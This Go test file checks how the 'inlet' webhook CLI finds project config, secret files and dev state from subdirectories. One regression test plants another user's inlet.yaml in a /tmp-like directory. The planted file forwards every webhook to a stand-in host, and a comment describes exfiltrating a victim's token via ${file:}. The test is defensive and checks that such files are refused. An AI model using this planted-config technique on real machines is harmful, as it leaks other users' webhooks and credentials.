package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/inlet-dev/inlet/inletyaml"
	"github.com/inlet-dev/inlet/internal/config"
	"github.com/inlet-dev/inlet/internal/freeport"
	"github.com/inlet-dev/inlet/internal/pgtest"
	"github.com/inlet-dev/inlet/internal/testwait"
)

// devInProcess runs inlet dev in-process with args (absolute paths only:
// the test changes directory meanwhile) until the test ends, and waits for
// its walkthrough ("Ctrl-C stops."). stop stops it and returns its error.
func devInProcess(t *testing.T, args ...string) (stop func() error) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	out := &syncBuffer{}
	finished := make(chan struct{})
	var devErr error
	go func() {
		defer close(finished)
		devErr = run(ctx, &environment{stdout: out, stderr: out}, append([]string{"dev"}, args...))
	}()
	stop = func() error {
		cancel()
		select {
		case <-finished:
			return devErr
		case <-time.After(60 * time.Second):
			return errors.New("inlet dev did not stop within 60s of its cancel")
		}
	}
	t.Cleanup(func() { _ = stop() })
	testwait.Eventually(t, 120*time.Second, "inlet dev started", func() (bool, string) {
		select {
		case <-finished:
			t.Fatalf("inlet dev ended before it started: %v\n%s", devErr, out.String())
		default:
		}
		return strings.Contains(out.String(), "Ctrl-C stops."), out.String()
	})
	return stop
}

// runInletIn runs one inlet command in dir and returns stdout, stderr and
// its error.
func runInletIn(t *testing.T, dir string, args ...string) (string, string, error) {
	t.Helper()
	t.Chdir(dir)
	var out, errOut bytes.Buffer
	err := run(context.Background(), &environment{stdout: &out, stderr: &errOut}, args)
	return out.String(), errOut.String(), err
}

// TestSubdirectoryUsesTheProjectsConfig (review helper-231, fixed).
// Defect: a command run in a subdirectory of a project (a directory holding
// inlet.yaml, where inlet dev runs) finds the project's .inlet/ (its
// database_url and ingress_url: findDevFile walks up, and even stops at that
// very directory because it holds an inlet.yaml), but not the project's
// inlet.yaml: loadServiceConfig (cmd/inlet/common.go) reads ./inlet.yaml
// only and falls back to the embedded dev defaults. So the command mixes
// the project's database and ingress with the embedded configuration:
// "inlet send stripe" signs with the public dev secret and the project's
// ingress answers 401 signature_mismatch (exit 1, nothing says which
// config was used), and "inlet events verify" re-checks the project's
// intact events with the dev secrets and reports each as a signature
// mismatch (exit 1: a false tamper alarm). docs/operations.md promises that
// every command run "from a directory below it" uses inlet dev's database,
// "with or without an inlet.yaml"; README step 5 says every command run
// from the directory finds it.
// Setup: TOP/inlet.yaml (source stripe with the project's own secret,
// handler log); inlet dev on it (real PostgreSQL, real HTTP), so
// TOP/.inlet/ingress_url; later TOP/.inlet/database_url as inlet dev writes
// it. The same commands run in TOP (control) and in TOP/a/b.
// Expected: from TOP/a/b the same results as from TOP: the send stored
// (200), the verify "1 verified, 0 failed".
// Observed: from TOP both pass; from TOP/a/b "401 Unauthorized ...
// signature_mismatch" (exit 1), and verify "checked 1 event: 0 verified,
// 1 failed" with signature_mismatch (exit 1).
// Fixed: when --config is the default and ./inlet.yaml is missing,
// loadServiceConfig reads the project's inlet.yaml (projectConfig: that of
// the nearest directory holding an inlet.yaml or a .git, where findDevFile
// stops), as git reads its repository's config, and names it where the
// commands say where their configuration came from.
func TestSubdirectoryUsesTheProjectsConfig(t *testing.T) {
	clearDevEnv(t)
	for _, v := range []string{"GITHUB_WEBHOOK_SECRET", "ACME_WEBHOOK_SECRET"} {
		t.Setenv(v, "")
	}
	dbURL := pgtest.NewDatabase(t)
	t.Setenv("DATABASE_URL", dbURL) // inlet dev on it; unset below, where .inlet/database_url names it
	top := t.TempDir()
	sub := filepath.Join(top, "a", "b")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	port, err := freeport.Pick()
	if err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(top, "inlet.yaml")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf(`ingress:
  listen: "127.0.0.1:%d"
  metrics_listen: "off"
sources:
  - name: stripe
    type: stripe
    secrets: ["whsec_review231_the_projects_own_secret"]
consumer:
  handlers:
    - name: log
      type: log
`, port)), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Chdir(top)
	stop := devInProcess(t, "--config", cfg, "--data-dir", filepath.Join(top, devDataDir), "--admin-listen", "off")

	// Control: in the project's directory.
	if out, errOut, err := runInletIn(t, top, "send", "stripe", "--id", "evt_review231_top"); err != nil {
		t.Fatalf("inlet send stripe in the project's directory: %v\n%s%s", err, out, errOut)
	}
	// A directory below it: the same ingress (found through .inlet/ingress_url).
	out, errOut, err := runInletIn(t, sub, "send", "stripe", "--id", "evt_review231_sub")
	if err != nil || !strings.Contains(out, `"stored"`) {
		t.Errorf("inlet send stripe in %s (a subdirectory of the project whose inlet dev it posts to): %v; want it stored as from %s\nstdout: %s\nstderr: %s",
			sub, err, top, out, errOut)
	}
	if err := stop(); err != nil {
		t.Fatalf("inlet dev: %v", err)
	}

	// inlet events verify, the database found through .inlet/database_url
	// (what inlet dev writes when it starts its own PostgreSQL).
	t.Setenv("DATABASE_URL", "")
	if err := os.WriteFile(filepath.Join(top, devDataDir, "database_url"), []byte(dbURL+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, errOut, err := runInletIn(t, top, "events", "verify", "--since", "1h"); err != nil || !strings.Contains(out, "0 failed") {
		t.Fatalf("inlet events verify in the project's directory: %v\n%s%s", err, out, errOut)
	}
	out, errOut, err = runInletIn(t, sub, "events", "verify", "--since", "1h")
	if err != nil || !strings.Contains(out, "0 failed") {
		t.Errorf("inlet events verify in %s, on the project's database: %v; want what it says in %s (0 failed): the project's intact events reported as altered\nstdout: %s\nstderr: %s",
			sub, err, top, out, errOut)
	}
}

// TestDevOnAConfigFileSealsByDefault (review helper-231, fixed).
// Defect: docs/configuration.md gives inlet dev its own defaults:
// "audit.seal_every | 0 (10s in inlet dev)" (also silence.check_every "1m
// (10s in inlet dev)", admin.listen "— (127.0.0.1:8084 in inlet dev)"), and
// inlet.example.yaml says "Default 0 (10s in inlet dev)". They hold only on
// the embedded defaults (inletyaml/dev.yaml sets them); with an inlet.yaml
// (what the README and the example invite a newcomer to write) runDev
// (cmd/inlet/dev.go) takes WithDefaults' service defaults: seal_every 0, so
// inlet dev never seals. Nothing says so; inlet audit verify shows every
// event "not yet sealed", and inlet retention, which drops only sealed
// periods, keeps everything.
// Setup: a minimal inlet.yaml (one stripe source, handler log, no audit:
// section); inlet dev on it over a real PostgreSQL; one signed webhook
// through inlet send; audit_checkpoints polled.
// Expected: a checkpoint within about grace (5s) + 10s; the test allows 90s.
// Observed: no checkpoint after 90s (audit.seal_every stays 0).
// Fixed: runDev gives a config file inlet dev's documented defaults for the
// keys it leaves out (inletyaml.WithDevDefaults: audit.seal_every and
// silence.check_every 10s, admin.listen 127.0.0.1:8084 with the development
// token when admin.token is unset too), before applyDevListeners; a key the
// file sets keeps its value, 0 or "" included.
func TestDevOnAConfigFileSealsByDefault(t *testing.T) {
	clearDevEnv(t)
	dbURL := pgtest.NewDatabase(t)
	t.Setenv("DATABASE_URL", dbURL)
	dir := t.TempDir()
	t.Chdir(dir)
	port, err := freeport.Pick()
	if err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "inlet.yaml")
	if err := os.WriteFile(cfg, []byte(`sources:
  - name: stripe
    type: stripe
    secrets: ["whsec_review231_minimal_config"]
consumer:
  handlers:
    - name: log
      type: log
`), 0o600); err != nil {
		t.Fatal(err)
	}
	devInProcess(t, "--config", cfg, "--data-dir", filepath.Join(dir, devDataDir), "--listen", "127.0.0.1:"+strconv.Itoa(port),
		"--metrics-listen", "off", "--admin-listen", "off")
	if out, errOut, err := runInletIn(t, dir, "send", "stripe", "--config", cfg); err != nil {
		t.Fatalf("inlet send stripe: %v\n%s%s", err, out, errOut)
	}
	conn, err := pgx.Connect(context.Background(), dbURL)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(context.Background())
	deadline := time.Now().Add(90 * time.Second)
	var checkpoints int
	for {
		if err := conn.QueryRow(context.Background(), `SELECT count(*) FROM webhook_ingress.audit_checkpoints`).Scan(&checkpoints); err != nil {
			t.Fatal(err)
		}
		if checkpoints > 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(500 * time.Millisecond)
	}
	if checkpoints == 0 {
		t.Errorf("inlet dev on an inlet.yaml without an audit: section sealed nothing in 90s after a webhook; docs/configuration.md: audit.seal_every defaults to 10s in inlet dev")
	}
}

// Without --config a command below a project's directory reads the
// project's inlet.yaml and says so, and the search stops where findDevFile
// stops: a directory holding a .git and no inlet.yaml is a project of its
// own, on the embedded defaults (review helper-231).
func TestProjectConfigStopsAtTheProjectRoot(t *testing.T) {
	clearDevEnv(t)
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"a/b", "repo/c", ".git"} {
		if err := os.MkdirAll(filepath.Join(top, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(top, "repo", ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	project := filepath.Join(top, "inlet.yaml")
	if err := os.WriteFile(project, []byte("sources:\n  - name: projects_own\n    type: stripe\n    secrets: [whsec_project_config]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Chdir(filepath.Join(top, "a", "b"))
	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
	if _, ok := cfg.Source("projects_own"); err != nil || from != project || !ok {
		t.Errorf("below the project: config from %q (err %v, its source there: %v); want %s", from, err, ok, project)
	}
	if _, from, err := loadServiceConfig(defaultConfigPath, config.IngressService, nil); err != nil || from != project {
		t.Errorf("a service below the project: config from %q (err %v); want %s", from, err, project)
	}
	if out, err := runInlet(t, "config", "check"); err != nil || out != project+": ok\n" {
		t.Errorf("inlet config check below the project: %v, %q; want %s checked", err, out, project)
	}
	t.Chdir(filepath.Join(top, "repo", "c"))
	if _, from, err := loadConfig(defaultConfigPath, inletyaml.Dev); err != nil || from != "embedded defaults" {
		t.Errorf("in a repository of its own inside the project: config from %q (err %v); want the embedded defaults", from, err)
	}
	if _, _, err := loadServiceConfig(defaultConfigPath, config.IngressService, nil); err == nil || !strings.Contains(err.Error(), "does not exist") {
		t.Errorf("a service in a repository of its own without inlet.yaml: %v; want the file missing", err)
	}
}

// nobody is the uid (and gid) of the other user whose files the tests
// plant.
const nobody = 65534

// resolvedTempDir is the test's temporary directory with its symbolic links
// resolved, as the paths the commands print are.
func resolvedTempDir(t *testing.T) string {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// writeTestFile writes content to path with perm.
func writeTestFile(t *testing.T, path, content string, perm os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), perm); err != nil {
		t.Fatal(err)
	}
}

// plantFile writes content to path (mode 0644), owned by another user (uid
// nobody).
func plantFile(t *testing.T, path, content string) {
	t.Helper()
	writeTestFile(t, path, content, 0o644)
	if err := os.Chown(path, nobody, nobody); err != nil {
		t.Fatal(err)
	}
}

// sharedParent is a world-writable directory top (as /tmp) with the current
// user's own fresh directory work in it, made the working directory. It
// skips the test unless it runs as root, which making a file owned by
// another user needs.
func sharedParent(t *testing.T) (top, work string) {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("needs root to make a file owned by another user")
	}
	clearDevEnv(t)
	top = resolvedTempDir(t)
	if err := os.Chmod(top, 0o1777); err != nil { // as /tmp
		t.Fatal(err)
	}
	work = filepath.Join(top, "work")
	if err := os.Mkdir(work, 0o700); err != nil { // the current user's own fresh directory
		t.Fatal(err)
	}
	t.Chdir(work)
	return top, work
}

// TestSubdirectoryResolvesTheProjectsSecretFiles (review helper-242, fixed).
// Defect: since 5084cbf a command run below a project's directory without
// --config reads the project's inlet.yaml (cmd/inlet/common.go:
// projectConfig, loadServiceConfig), "so a command run in a subdirectory
// uses the same file as the inlet dev whose .inlet/ it finds"
// (docs/configuration.md, "Which file"). But the file's relative
// ${file:PATH} references are still read against the working directory
// (internal/config/config.go: expandValue, os.ReadFile(path)), not the
// file's directory: a project whose inlet.yaml reads its secrets as
// ${file:secrets/stripe_whsec} (works from the project's directory, where
// inlet dev runs) cannot run any command from a subdirectory: inlet send,
// events, dlq, config check all fail with "secret file
// secrets/stripe_whsec: no such file or directory", and where the
// subdirectory happens to hold a file of that relative name, the command
// silently uses that one instead (another secret: the 401s and false
// tamper alarm of helper-231 again). The fix made the file the same, not
// what it means.
// Setup: TOP/inlet.yaml with a stripe source whose secret is
// ${file:secrets/stripe_whsec}, TOP/secrets/stripe_whsec; the config loaded
// (as send/events/dlq do, and inlet config check) from TOP and from TOP/a/b.
// Expected: from TOP/a/b the same configuration as from TOP (the secret of
// TOP/secrets/stripe_whsec), config check "ok".
// Observed: from TOP "ok"; from TOP/a/b loadConfig fails: "TOP/inlet.yaml:4:
// sources[0].secrets[0]: secret file secrets/stripe_whsec: no such file or
// directory", and inlet config check exits with the same problem.
// Fixed (helper-247): config.Load resolves a relative ${file:} path against
// the absolute directory of the file it reads (inletyaml.LoadFor, so every
// command and inlet config check), whatever the working directory; a
// missing file's error names the path it was resolved to; the embedded
// defaults (no file) resolve against the working directory as before.
func TestSubdirectoryResolvesTheProjectsSecretFiles(t *testing.T) {
	clearDevEnv(t)
	top := resolvedTempDir(t)
	sub := filepath.Join(top, "a", "b")
	for _, d := range []string{sub, filepath.Join(top, "secrets")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	const secret = "whsec_review242_the_projects_own_secret"
	writeTestFile(t, filepath.Join(top, "secrets", "stripe_whsec"), secret+"\n", 0o600)
	project := filepath.Join(top, "inlet.yaml")
	writeTestFile(t, project, `sources:
  - name: stripe
    type: stripe
    secrets: ["${file:secrets/stripe_whsec}"]
consumer:
  handlers:
    - name: log
      type: log
`, 0o600)

	// Control: from the project's directory, where inlet dev runs.
	t.Chdir(top)
	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
	if err != nil {
		t.Fatalf("control: the project's config in its own directory: %v", err)
	}
	if src, ok := cfg.Source("stripe"); !ok || len(src.Secrets) != 1 || src.Secrets[0] != secret {
		t.Fatalf("control: config from %s has stripe %+v; want the secret of secrets/stripe_whsec", from, src)
	}
	if out, err := runInlet(t, "config", "check"); err != nil {
		t.Fatalf("control: inlet config check in the project's directory: %v\n%s", err, out)
	}

	// A directory below it: the same file, so the same secret.
	t.Chdir(sub)
	cfg, from, err = loadConfig(defaultConfigPath, inletyaml.Dev)
	if err != nil {
		t.Errorf("below the project (%s) the project's own inlet.yaml, which loads in %s, does not load: %v", sub, top, err)
	} else if src, ok := cfg.Source("stripe"); from != project || !ok || len(src.Secrets) != 1 || src.Secrets[0] != secret {
		t.Errorf("below the project: config from %s, stripe %+v; want %s with the secret of %s/secrets/stripe_whsec", from, src, project, top)
	}
	out, err := runInlet(t, "config", "check")
	if err != nil || !strings.HasSuffix(out, ": ok\n") {
		t.Errorf("inlet config check below the project: %v\n%s\nwant %s: ok, as in %s", err, out, project, top)
	}
}

// TestParentConfigOfAnotherUserIsNotRead (review helper-242, fixed).
// Defect: projectConfig (cmd/inlet/common.go) walks up from the working
// directory and reads the first inlet.yaml it meets, whoever owns it and
// whatever the directory: "as git reads the config of the repository it
// runs in" (docs/configuration.md, "Which file") — but git refuses a
// repository owned by another user (safe.directory, CVE-2022-24765) for
// exactly this reason. On a shared machine any user can put an inlet.yaml
// into /tmp (a sticky, world-writable directory); another user who runs
// `inlet dev` (or send, events, dlq, replay, config check) in a fresh
// /tmp/work directory, expecting the embedded defaults (no inlet.yaml, no
// .git there), gets the planted configuration instead: its database_url,
// its sources and secrets, its handlers (an http-forward to the planter's
// URL receives every webhook), its tracing endpoint, and ${file:...} of
// the victim's own files expanded into those values (a URL with
// ${file:/home/victim/.config/token} sends that token out with every
// delivery). Before 5084cbf no parent's inlet.yaml was ever read.
// Setup: TOP (mode 1777, as /tmp) holds inlet.yaml owned by uid 65534
// (another user; the test runs as root, and skips otherwise), with a
// source "planted" and an http-forward handler to an outside URL;
// loadConfig (what inlet dev, send and the operator commands call) run in
// TOP/work, a fresh directory of the current user.
// Expected: the planted file is not read: the embedded defaults (or a
// refusal naming the file and its owner, as git does).
// Observed: the configuration comes "from" TOP/inlet.yaml, with source
// "planted" and the handler forwarding to https://collector.invalid/.
// Fixed (helper-247): projectConfig and findDevFile refuse an inlet.yaml,
// or an .inlet/ (or its file), found on the walk up and owned by a uid
// other than the current user's, as git refuses a repository of another
// owner: the error names the file, its owner and the way out (--config
// PATH to use it deliberately, --database-url/DATABASE_URL or --url
// instead of the .inlet/ file, or a directory of one's own). An explicit
// --config is read whoever owns it. The walk stops where it did.
func TestParentConfigOfAnotherUserIsNotRead(t *testing.T) {
	top, work := sharedParent(t)
	planted := filepath.Join(top, "inlet.yaml")
	plantFile(t, planted, `sources:
  - name: planted
    type: stripe
    secrets: ["whsec_review242_planted_by_another_user"]
consumer:
  handlers:
    - name: exfil
      type: http-forward
      url: "https://collector.invalid/hooks"
      secret: "review242-planted-forward-secret"
`)
	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
	if err != nil {
		// Refused, naming the file: as good as git's refusal.
		if !strings.Contains(err.Error(), planted) {
			t.Errorf("refused with %v; want the error to name %s", err, planted)
		}
		return
	}
	_, hasPlanted := cfg.Source("planted")
	if from == planted || hasPlanted {
		var forwards []string
		for _, h := range cfg.Consumer.Handlers {
			if h.URL != "" {
				forwards = append(forwards, h.Name+" -> "+h.URL)
			}
		}
		t.Errorf("a command in %s (no inlet.yaml, no .git) read %s, owned by uid %d (another user) in a world-writable directory: "+
			"config from %q, source planted %v, forwards %v; want the embedded defaults (or a refusal), as git refuses a repository of another owner",
			work, planted, nobody, from, hasPlanted, forwards)
	}
}

// The refusal of another user's files found on the walk up (review
// helper-242, fixed by helper-247): the project's inlet.yaml refused names
// the file, its owner and --config, and --config reads it deliberately;
// another user's .inlet/ is not used for the database nor for inlet send's
// ingress, each refusal with its own way out, which then works.
func TestAnotherUsersProjectFilesAreRefusedWithAWayOut(t *testing.T) {
	top, work := sharedParent(t)
	planted := filepath.Join(top, "inlet.yaml")
	plantFile(t, planted, "sources:\n  - name: planted\n    type: stripe\n    secrets: [whsec_planted_by_another_user]\n")
	for _, service := range []config.Service{config.AllSections, config.IngressService} {
		_, _, err := loadServiceConfig(defaultConfigPath, service, inletyaml.Dev)
		if err == nil || !strings.Contains(err.Error(), planted) || !strings.Contains(err.Error(), "uid 65534") ||
			!strings.Contains(err.Error(), "--config "+planted) {
			t.Errorf("service %d in %s: %v; want a refusal naming %s, its owner uid %d and --config", service, work, err, planted, nobody)
		}
	}
	if out, err := runInlet(t, "config", "check"); err == nil || !strings.Contains(err.Error(), planted) {
		t.Errorf("inlet config check in %s: %v\n%s; want the refusal of %s", work, err, out, planted)
	}
	// Deliberately: an explicit --config is read whoever owns it.
	if cfg, from, err := loadConfig(planted, inletyaml.Dev); err != nil || from != planted {
		t.Errorf("--config %s: config from %q, %v; want it read", planted, from, err)
	} else if _, ok := cfg.Source("planted"); !ok {
		t.Errorf("--config %s: no source planted", planted)
	}

	// Another user's .inlet/ in a project of the current user's own: its
	// database_url and ingress_url are not used.
	proj := filepath.Join(top, "proj")
	dev := filepath.Join(proj, devDataDir)
	if err := os.MkdirAll(filepath.Join(proj, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeTestFile(t, filepath.Join(proj, "inlet.yaml"), "sources:\n  - name: own\n    type: stripe\n    secrets: [whsec_own_project_secret]\n", 0o600)
	if err := os.Mkdir(dev, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{"database_url": "postgres://planted.invalid/db\n", "ingress_url": "http://127.0.0.1:1/\n"} {
		writeTestFile(t, filepath.Join(dev, name), content, 0o644)
	}
	if err := os.Chown(dev, nobody, nobody); err != nil {
		t.Fatal(err)
	}
	t.Chdir(filepath.Join(proj, "sub"))
	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
	if err != nil || from != filepath.Join(proj, "inlet.yaml") {
		t.Fatalf("the user's own project: config from %q, %v", from, err)
	}
	if u, err := databaseURL("", ""); err == nil || u != "" || !strings.Contains(err.Error(), dev) || !strings.Contains(err.Error(), "DATABASE_URL") {
		t.Errorf("database of another user's %s: %q, %v; want a refusal naming it and DATABASE_URL", dev, u, err)
	}
	if u, err := databaseURL("", "postgres://own.invalid/db"); err != nil || u != "postgres://own.invalid/db" {
		t.Errorf("with a database configured: %q, %v; want it, the .inlet/ not looked at", u, err)
	}
	if u, _, err := ingressURL(cfg, from); err == nil || u != "" || !strings.Contains(err.Error(), dev) || !strings.Contains(err.Error(), "--url") {
		t.Errorf("ingress of another user's %s: %q, %v; want a refusal naming it and --url", dev, u, err)
	}
	if _, err := devStateDir("pass --state PATH"); err == nil || !strings.Contains(err.Error(), "--state") {
		t.Errorf("backfill's state beside another user's %s: %v; want a refusal naming --state", dev, err)
	}
	// The .inlet/ is the user's, one file in it is not: refused too.
	if err := os.Chown(dev, 0, 0); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(filepath.Join(dev, "database_url"), nobody, nobody); err != nil {
		t.Fatal(err)
	}
	if _, err := databaseURL("", ""); err == nil || !strings.Contains(err.Error(), filepath.Join(dev, "database_url")) {
		t.Errorf("another user's %s/database_url: %v; want a refusal naming it", dev, err)
	}
	if u, _, err := ingressURL(cfg, from); err != nil || u != "http://127.0.0.1:1/" {
		t.Errorf("the user's own %s/ingress_url: %q, %v; want it read", dev, u, err)
	}
}

// inlet config check on a file whose relative ${file:} is missing names the
// path it was resolved to, in the file's directory, not the working one
// (review helper-242, fixed by helper-247).
func TestConfigCheckNamesTheResolvedSecretFile(t *testing.T) {
	clearDevEnv(t)
	top := resolvedTempDir(t)
	etc := filepath.Join(top, "etc")
	if err := os.Mkdir(etc, 0o755); err != nil {
		t.Fatal(err)
	}
	writeTestFile(t, filepath.Join(etc, "inlet.yaml"), "sources:\n  - name: stripe\n    type: stripe\n    secrets: [\"${file:secrets/stripe}\"]\n", 0o600)
	t.Chdir(top)
	out, err := runInlet(t, "config", "check", "--config", "etc/inlet.yaml")
	want := "secret file secrets/stripe (" + filepath.Join(etc, "secrets", "stripe") + "): no such file or directory"
	if err == nil || !strings.Contains(out, want) {
		t.Errorf("inlet config check --config etc/inlet.yaml from %s: %v\n%s\nwant the problem %q", top, err, out, want)
	}
}
